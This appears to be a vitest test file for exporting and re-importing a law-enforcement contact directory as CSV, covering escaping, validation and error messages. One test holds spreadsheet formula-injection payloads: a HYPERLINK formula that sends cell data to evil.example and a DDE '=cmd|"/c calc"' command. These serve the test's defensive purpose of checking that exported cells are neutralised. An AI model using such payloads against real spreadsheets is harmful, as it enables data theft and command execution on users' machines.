import { describe, expect, it } from 'vitest';
import { type DirectoryEntry, type DirectoryEntryInput, directoryEntry, directoryEntryDraft } from './directory.js';
import {
  DIRECTORY_CSV_COLUMNS,
  DIRECTORY_CSV_EXPORT_COLUMNS,
  directoryColumnOf,
  directoryRecordOf,
  directoryToCsv,
  parseDirectoryCsv,
  parseDirectoryRecord,
} from './directory-csv.js';
import { ITALY_DESK, NIGER_PROSECUTOR } from './testing/directory-entries.js';

const entry = (input: DirectoryEntryInput): DirectoryEntry => directoryEntry.parse(input);

function draftOf(e: DirectoryEntry) {
  const { id: _id, agency: _agency, lastVerified: _lastVerified, verifiedBy: _verifiedBy, retiredAt: _retiredAt, ...draft } = e;
  return directoryEntryDraft.parse(draft);
}

const prosecutor = entry({
  ...NIGER_PROSECUTOR,
  title: 'Procureure, pôle judiciaire spécialisé',
  covers: ['NER', 'TCD'],
  routes: ['central-mediterranean'],
  availability: {
    ...NIGER_PROSECUTOR.availability,
    absences: [
      { from: '2026-12-20', to: '2027-01-03', note: 'Christmas leave; back on the 4th' },
      { from: '2027-02-01', to: '2027-02-01' },
    ],
  },
  channels: [
    { type: 'phone', value: '+22720723456' },
    { type: 'phone', value: '+22796000001' },
    { type: 'email', value: 'a.maiga@justice.example.ne' },
  ],
  notes: 'Prefers a call before 10:00, "urgent" cases only.\nFor MLA requests, copy the central authority; no faxes.',
  verifiedBy: 'Ibrahim Sani',
});

const desk = entry({
  ...ITALY_DESK,
  name: 'Sala operativa — Servizio Centrale Immigrazione',
  roles: ['border_control', 'police_investigation'],
  channels: [
    { type: 'phone', value: '+39064686' },
    { type: 'email', value: 'sala.operativa@interno.example.it' },
    { type: 'secure_messaging', value: '@sala:matrix.example.it' },
    { type: 'fax', value: '+390646862222' },
  ],
  retiredAt: '2026-11-01T09:00:00Z',
});

const liaison = entry({
  id: '0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e03',
  agency: 'es-cgef',
  country: 'ESP',
  kind: 'person',
  name: "Jon O'Neill-Zubiría",
  roles: ['liaison_officer'],
  postedIn: 'SEN',
  covers: ['SEN', 'GMB', 'MRT'],
  routes: ['west-african-atlantic', 'western-mediterranean'],
  languages: ['es', 'fr', 'wo'],
  availability: {
    always: false,
    timeZone: 'Africa/Dakar',
    hours: [
      { days: ['sat', 'sun', 'mon'], from: '20:00', to: '23:59' },
      { days: ['fri', 'mon'], from: '07:30', to: '12:00' },
      { days: ['mon', 'tue', 'wed', 'fri'], from: '14:00', to: '16:00' },
    ],
    absences: [{ from: '2027-03-10', to: '2027-03-20', note: 'Mission to Nouadhibou, "Operation Seahorse"' }],
  },
  channels: [{ type: 'secure_messaging', value: 'signal:+221 77 000 00 00' }],
  lastVerified: '2026-08-30',
});

/** A file as an administrator would write it by hand: only the columns they need. */
const HEADER = 'name,kind,roles,country,languages,time_zone,hours,phone';
const file = (...lines: string[]) => [HEADER, ...lines].join('\r\n');

describe('directory CSV export and re-import', () => {
  it('gives back every entry as it was: accents, commas, quotes, line breaks, 24/7 desks, absences, several spans', () => {
    const csv = directoryToCsv([prosecutor, desk, liaison]);
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([]);
    expect(rows).toStrictEqual([
      { row: 2, id: prosecutor.id, draft: draftOf(prosecutor) },
      { row: 3, id: desk.id, draft: draftOf(desk) },
      { row: 4, id: liaison.id, draft: draftOf(liaison) },
    ]);
  });

  it('writes the header and cells in the documented formats, with CRLF line ends', () => {
    const csv = directoryToCsv([prosecutor, liaison]);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${DIRECTORY_CSV_EXPORT_COLUMNS.join(',')}`);
    expect(csv.endsWith('\r\n')).toBe(true);
    // The only bare LF is the one inside the quoted notes cell.
    expect(csv.replace(/"Prefers[^"]*(""[^"]*)*"/, '').replace(/\r\n/g, '')).not.toContain('\n');
    expect(csv).toContain(
      ',prosecutor;central_authority_mla,mla;extradition,wacap;sahel-net,NER,,NER;TCD,central-mediterranean,fr;ha;en,no,Africa/Niamey,' +
        'mon-fri 08:00-17:00; sat 09:00-12:00,' +
        '2026-12-20..2027-01-03 Christmas leave\\; back on the 4th; 2027-02-01..2027-02-01,' +
        '+22720723456; +22796000001,a.maiga@justice.example.ne,,,',
    );
    expect(csv).toContain(',ne-ppn,2026-10-01,Ibrahim Sani,\r\n');
    expect(csv).toContain('sat-mon 20:00-23:59; fri,mon 07:30-12:00; mon-wed,fri 14:00-16:00');
  });

  it('writes an empty file as the header alone, which an import refuses as having no entries', () => {
    const csv = directoryToCsv([]);
    expect(csv).toBe(`\uFEFF${DIRECTORY_CSV_EXPORT_COLUMNS.join(',')}\r\n`);
    expect(parseDirectoryCsv(csv).problems).toEqual([{ row: 1, field: '', message: 'the file has no entries below the header' }]);
  });

  it('keeps spreadsheets from running a cell as a formula, by OWASP’s rule, yet an E.164 phone number stays callable', () => {
    const hostile = entry({
      ...desk,
      id: '0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e04',
      name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
      title: '@SUM(1+1)',
      notes: '-2+3 is not a note',
      channels: [
        { type: 'phone', value: '+39064686' },
        { type: 'phone', value: '+393330000000' },
        { type: 'email', value: '=cmd|"/c calc"!A0' },
        { type: 'secure_messaging', value: '-signal' },
        { type: 'fax', value: '+390646862222', label: 'night' },
      ],
    });
    const csv = directoryToCsv([hostile]);
    const cells = csv.split('\r\n')[1] ?? '';
    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",'@SUM(1+1),`);
    // Phones alone in E.164 are written as they are; a label makes the cell text, which is guarded.
    expect(cells).toContain(`,+39064686; +393330000000,"'=cmd|""/c calc""!A0",'-signal,'+390646862222 [night],`);
    expect(cells).toContain(",'-2+3 is not a note,");
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([]);
    expect(rows[0]?.draft).toStrictEqual(draftOf(hostile));
  });

  it.each([
    ['=1+2', "'=1+2"],
    ['+1 not a phone', "'+1 not a phone"],
    ['-x', "'-x"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['\nx', `"'\nx"`],
    ['x=1', 'x=1'],
  ])('guards a cell beginning %j as %j', (notes, written) => {
    // Not parsed: the schema trims text, but an export must not rely on what wrote the entry.
    const csv = directoryToCsv([{ ...liaison, notes }]);
    expect(csv).toContain(`,${written},`);
  });

  it('keeps a value that itself begins with an apostrophe before a formula sign', () => {
    const quoted = entry({ ...liaison, name: "'=not a formula" });
    const csv = directoryToCsv([quoted]);
    expect(parseDirectoryCsv(csv).rows[0]?.draft.name).toBe("'=not a formula");
  });

  it('groups channels by type in column order, each with its label', () => {
    const labelled = entry({
      ...liaison,
      channels: [
        { type: 'email', value: 'jon@example.es', label: 'office [Dakar]' },
        { type: 'phone', value: '+221338210000', label: 'embassy switchboard; 24/7' },
        { type: 'phone', value: '+221770000000' },
      ],
    });
    const csv = directoryToCsv([labelled]);
    expect(csv).toContain(",'+221338210000 [embassy switchboard\\; 24/7]; +221770000000,jon@example.es [office \\[Dakar\\]],");
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([]);
    expect(rows[0]?.draft.channels).toEqual([
      { type: 'phone', value: '+221338210000', label: 'embassy switchboard; 24/7' },
      { type: 'phone', value: '+221770000000' },
      { type: 'email', value: 'jon@example.es', label: 'office [Dakar]' },
    ]);
  });
});

describe('reading a file an administrator wrote', () => {
  it('reads every documented cell format, tolerating a BOM, spaces around cells, blank lines and any column order', () => {
    const csv =
      '\uFEFFKind , Name,roles,Country,languages,time_zone,always,hours,absences,covers,competences,email,notes,id\r\n' +
      ' person , Mamadou Diallo ,Police_Investigation; immigration ,sen, fr;WO ,Africa/Dakar, ," mon-wed,fri 8:00 - 12:30 ;sat-mon 20:00-23:00",' +
      '2027-01-02 ; 2027-03-01..2027-03-05 Formation à Dakar,gmb;mli,,m.diallo@example.sn,"Line one\nline two",\r\n' +
      '\r\n' +
      'desk,Permanence,border_control,SEN,fr,Africa/Dakar,YES,,,,informal_contact,permanence@example.sn,,0192F1E4-7A2B-7C3D-8E4F-5A6B7C8D9E0F\r\n' +
      '\r\n\r\n';
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([]);
    expect(rows).toStrictEqual([
      {
        row: 2,
        draft: directoryEntryDraft.parse({
          kind: 'person',
          name: 'Mamadou Diallo',
          roles: ['police_investigation', 'immigration'],
          country: 'SEN',
          languages: ['fr', 'wo'],
          covers: ['GMB', 'MLI'],
          availability: {
            always: false,
            timeZone: 'Africa/Dakar',
            hours: [
              { days: ['mon', 'tue', 'wed', 'fri'], from: '08:00', to: '12:30' },
              { days: ['sat', 'sun', 'mon'], from: '20:00', to: '23:00' },
            ],
            absences: [
              { from: '2027-01-02', to: '2027-01-02' },
              { from: '2027-03-01', to: '2027-03-05', note: 'Formation à Dakar' },
            ],
          },
          channels: [{ type: 'email', value: 'm.diallo@example.sn' }],
          notes: 'Line one\nline two',
        }),
      },
      {
        // The blank line above still counts: the row is where a spreadsheet shows it.
        row: 4,
        id: '0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e0f',
        draft: directoryEntryDraft.parse({
          kind: 'desk',
          name: 'Permanence',
          roles: ['border_control'],
          country: 'SEN',
          languages: ['fr'],
          competences: ['informal_contact'],
          availability: { always: true, timeZone: 'Africa/Dakar' },
          channels: [{ type: 'email', value: 'permanence@example.sn' }],
        }),
      },
    ]);
  });

  it.each([
    ['yes', true],
    ['true', true],
    ['1', true],
    ['no', false],
    ['False', false],
    ['0', false],
    ['', false],
  ])('reads always = %j as %s', (cell, always) => {
    const csv = [
      'name,kind,roles,country,languages,time_zone,always,phone',
      `Desk,desk,consular,ITA,it,Europe/Rome,${cell},+39 06 4686 1`,
    ].join('\n');
    expect(parseDirectoryCsv(csv).rows[0]?.draft.availability.always).toBe(always);
  });

  it('reports every problem of every row, naming the column, and still returns the valid rows', () => {
    const { rows, problems } = parseDirectoryCsv(
      file(
        'Ana Ruiz,person,prosecutor,ESP,es;xx,Europe/Madrid,mon-fri 8-17,+34 91 000 00 00',
        'Desk Lampedusa,desk,border_control,ITA,it,Europe/Rome,mon-sun 00:00-23:59,+39 0922 000',
        ',persn,,FRX,,Mars/Olympus,mon 18:00-08:00; fri-fri 09:00-10:00; funday 09:00-10:00,',
      ),
    );
    expect(problems).toEqual([
      { row: 2, field: 'languages', message: '"xx" must be an ISO 639-1 language code, e.g. fr' },
      { row: 2, field: 'hours', message: '"mon-fri 8-17" is not like "mon-fri 08:00-17:00"' },
      { row: 4, field: 'kind', message: '"persn" must be person or desk' },
      { row: 4, field: 'name', message: 'is required' },
      { row: 4, field: 'roles', message: 'give at least one role' },
      { row: 4, field: 'country', message: '"FRX" must be an ISO 3166-1 alpha-3 country code, e.g. ITA, NER, NGA' },
      { row: 4, field: 'languages', message: 'give at least one language' },
      { row: 4, field: 'time_zone', message: '"Mars/Olympus" must be an IANA time zone, e.g. Africa/Niamey' },
      { row: 4, field: 'hours', message: '"fri-fri 09:00-10:00": "fri-fri" is ambiguous: write fri alone, or a range of several days' },
      { row: 4, field: 'hours', message: '"funday 09:00-10:00": "funday" is not a day: write mon, tue, wed, thu, fri, sat or sun' },
      { row: 4, field: '', message: 'give at least one way to reach this contact' },
    ]);
    expect(rows.map((r) => [r.row, r.draft.name])).toEqual([[3, 'Desk Lampedusa']]);
  });

  it('maps problems deep inside a cell back to the column and the item written there', () => {
    const csv = [
      'name,kind,roles,country,languages,time_zone,hours,absences,phone,email,covers',
      `Ana,person,prosecutor,ESP,es,Europe/Madrid,mon 09:00-12:00; tue 18:00-08:00,2027-01-10..2027-01-02 Leave; 2027-13-01,+34 91 000 00 00;+34 920 000 000,a@example.es;${'x'.repeat(201)},FRA;ESX`,
    ].join('\n');
    expect(parseDirectoryCsv(csv).problems).toEqual([
      { row: 2, field: 'covers', message: '"ESX" must be an ISO 3166-1 alpha-3 country code, e.g. ITA, NER, NGA' },
      { row: 2, field: 'hours', message: '"tue 18:00-08:00" must end after it starts; split a night shift at midnight' },
      { row: 2, field: 'absences', message: '"2027-01-10..2027-01-02 Leave" must not be before the first day away' },
      { row: 2, field: 'absences', message: '"2027-13-01" must be a date in ISO 8601 form, e.g. 2026-11-24' },
      { row: 2, field: 'email', message: `"${'x'.repeat(39)}…" must be at most 200 characters` },
    ]);
  });

  it('says which absence is not in the documented form', () => {
    const csv = [
      'name,kind,roles,country,languages,time_zone,absences,phone',
      'A,person,consular,ITA,it,Europe/Rome,20/12/2026-03/01/2027,+39 06 4686 1',
    ].join('\n');
    expect(parseDirectoryCsv(csv).problems).toEqual([
      { row: 2, field: 'absences', message: '"20/12/2026-03/01/2027" is not like "2026-12-20..2027-01-03 Christmas leave"' },
    ]);
  });

  it('refuses an always cell that is neither yes nor no', () => {
    const csv = [
      'name,kind,roles,country,languages,time_zone,always,phone',
      'A,desk,consular,ITA,it,Europe/Rome,sometimes,+39 06 4686 1',
    ].join('\n');
    expect(parseDirectoryCsv(csv).problems).toEqual([{ row: 2, field: 'always', message: '"sometimes" is not yes or no' }]);
  });

  it('keeps a semicolon or backslash inside a list value when escaped, and a lone backslash as written', () => {
    const csv = [
      'name,kind,roles,country,languages,time_zone,absences,secure_messaging',
      'A,person,consular,ITA,it,Europe/Rome,2027-01-01..2027-01-02 Away\\; call the desk,C:\\tools; a\\\\b',
    ].join('\n');
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([]);
    expect(rows[0]?.draft.availability.absences).toEqual([{ from: '2027-01-01', to: '2027-01-02', note: 'Away; call the desk' }]);
    expect(rows[0]?.draft.channels.map((c) => c.value)).toEqual(['C:\\tools', 'a\\b']);
  });
});

describe('problems of the file as a whole', () => {
  it('refuses an empty file, naming the header it expects', () => {
    for (const text of ['', '\uFEFF', '\r\n\r\n']) {
      const { rows, problems } = parseDirectoryCsv(text);
      expect(rows).toEqual([]);
      expect(problems).toEqual([
        { row: 1, field: '', message: `the file is empty: its first line must name the columns, e.g. ${DIRECTORY_CSV_COLUMNS.join(',')}` },
      ]);
    }
  });

  it('refuses a header without entries', () => {
    expect(parseDirectoryCsv(`${HEADER}\r\n\r\n`).problems).toEqual([
      { row: 1, field: '', message: 'the file has no entries below the header' },
    ]);
  });

  it('names every missing required column once, instead of a problem on every row', () => {
    const csv = ['name,roles,phone', 'A,consular,+39 06 4686 1', 'B,consular,+39 0712 345 678'].join('\n');
    expect(parseDirectoryCsv(csv)).toEqual({
      rows: [],
      problems: [{ row: 1, field: '', message: 'the header lacks the required columns kind, country, languages, time_zone' }],
    });
  });

  it('refuses an unknown column at row 1, ignores the columns an export adds, and still checks the rows', () => {
    const csv = [
      `${HEADER},agency,last_verified,verified_by,retired_at,mobile`,
      'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1,it-dcis,not a date,Someone,also not a date,+39 333 000 0000',
      'B,person,consular,ITA,it,Europe/Rome,,,,,,,',
    ].join('\n');
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([
      {
        row: 1,
        field: 'mobile',
        message: `"mobile" is not a column of the directory file; the columns are ${DIRECTORY_CSV_COLUMNS.join(', ')}`,
      },
      { row: 3, field: '', message: 'give at least one way to reach this contact' },
    ]);
    expect(rows.map((r) => r.draft.name)).toEqual(['A']);
  });

  it('refuses a column named twice, since either could be meant', () => {
    const csv = [`${HEADER},phone`, 'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1,+39 0712 345 678'].join('\n');
    expect(parseDirectoryCsv(csv).problems).toEqual([{ row: 1, field: 'phone', message: 'the column phone appears twice' }]);
  });

  it('refuses cells beyond the header, which belong to no column', () => {
    const csv = file('A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1,stray');
    expect(parseDirectoryCsv(csv)).toEqual({
      rows: [],
      problems: [{ row: 2, field: '', message: 'the row has 9 cells but the header names 8 columns' }],
    });
  });

  it('refuses an id that is not a UUID, and the same id on a second row', () => {
    const id = '0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e01';
    const csv = [
      `id,${HEADER}`,
      `${id},A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1`,
      'desk-7,B,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1',
      `${id.toUpperCase()},C,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1`,
    ].join('\n');
    const { rows, problems } = parseDirectoryCsv(csv);
    expect(problems).toEqual([
      {
        row: 3,
        field: 'id',
        message: '"desk-7" is not an entry id (a UUID such as 0192f1e4-7a2b-7c3d-8e4f-5a6b7c8d9e0f): leave it empty for a new entry',
      },
      { row: 4, field: 'id', message: 'the same id is already on row 2: one row per entry' },
    ]);
    expect(rows.map((r) => r.row)).toEqual([2]);
  });

  it('points at the row where a quoted cell is never closed', () => {
    const csv = file(
      'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1',
      'B,person,"consular,ITA,it,Europe/Rome,,+39 06 4686 1',
      'C,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1',
    );
    expect(parseDirectoryCsv(csv)).toEqual({
      rows: [],
      problems: [{ row: 3, field: '', message: 'a quoted cell is never closed: a cell that starts with " must end with "' }],
    });
  });

  it('accepts 5,000 entries and refuses 5,001 with one problem', () => {
    const line = 'A,person,consular,ITA,it,Europe/Rome,,+39 06 4686 1';
    expect(parseDirectoryCsv(file(...Array(5000).fill(line))).rows).toHaveLength(5000);
    expect(parseDirectoryCsv(file(...Array(5001).fill(line)))).toEqual({
      rows: [],
      problems: [{ row: 1, field: '', message: 'the file has 5001 entries; import at most 5000 at a time, in several files' }],
    });
  });
});

describe('one entry as a form writes it', () => {
  it('checks the cells as an import would, naming the column of each problem', () => {
    const ok = parseDirectoryRecord({
      kind: 'person',
      name: 'Moussa Issa',
      roles: 'prosecutor',
      country: 'NER',
      languages: 'fr;ha',
      time_zone: 'Africa/Niamey',
      hours: 'mon-fri 08:00-16:00; sat 09:00-24:00',
      phone: '+227 20 72 00 00',
    });
    expect(ok.problems).toEqual([]);
    expect(ok.draft?.availability.hours).toEqual([
      { days: ['mon', 'tue', 'wed', 'thu', 'fri'], from: '08:00', to: '16:00' },
      { days: ['sat'], from: '09:00', to: '24:00' },
    ]);
    const bad = parseDirectoryRecord({
      kind: 'person',
      name: 'X',
      roles: 'wizard',
      country: 'NER',
      languages: 'fr',
      time_zone: 'Mars/Olympus',
      phone: '1',
    });
    expect(bad.draft).toBeUndefined();
    expect(bad.problems.map((p) => p.field)).toEqual(['roles', 'time_zone', 'phone']);
  });

  it('starts an edit form from the entry’s own cells, which read back to the same entry', () => {
    // Channels come back grouped by type: the prosecutor's are already in that order.
    expect(parseDirectoryRecord(directoryRecordOf(prosecutor)).draft).toEqual(draftOf(prosecutor));
  });

  it('names the form field of a path a node reports', () => {
    expect(directoryColumnOf('availability.hours.0.to')).toBe('hours');
    expect(directoryColumnOf('availability.timeZone')).toBe('time_zone');
    expect(directoryColumnOf('postedIn')).toBe('posted_in');
    expect(directoryColumnOf('languages.1')).toBe('languages');
    expect(directoryColumnOf('')).toBe('');
  });
});
